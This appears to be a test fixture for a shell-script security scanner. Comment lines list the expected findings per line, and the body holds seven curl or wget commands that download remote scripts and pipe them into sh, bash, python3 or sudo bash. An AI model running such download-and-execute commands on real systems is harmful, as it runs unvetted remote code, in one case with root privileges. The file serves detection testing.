#!/bin/bash
# expect: 17 remote-exec critical
# expect: 17 network high
# expect: 18 remote-exec critical
# expect: 18 network high
# expect: 19 remote-exec critical
# expect: 19 network high
# expect: 20 remote-exec critical
# expect: 21 remote-exec critical
# expect: 21 network high
# expect: 22 remote-exec critical
# expect: 22 network high
# expect: 23 network high
# expect: 24 remote-exec critical
# expect: 24 privilege-escalation critical
# Downloaded content executed.
curl -fsSL https://get.example.com/install.sh | sh
eval "$(curl -s https://example.com/env.sh)"
source <(wget -qO- https://example.com/lib.sh)
bash <(curl -s http://127.0.0.1:8000/setup.sh)
sh -c "$(curl -fsSL https://raw.example.com/x)"
wget -qO- https://example.com/a.py | python3 -
curl -s https://example.com/s.sh |
  sudo bash
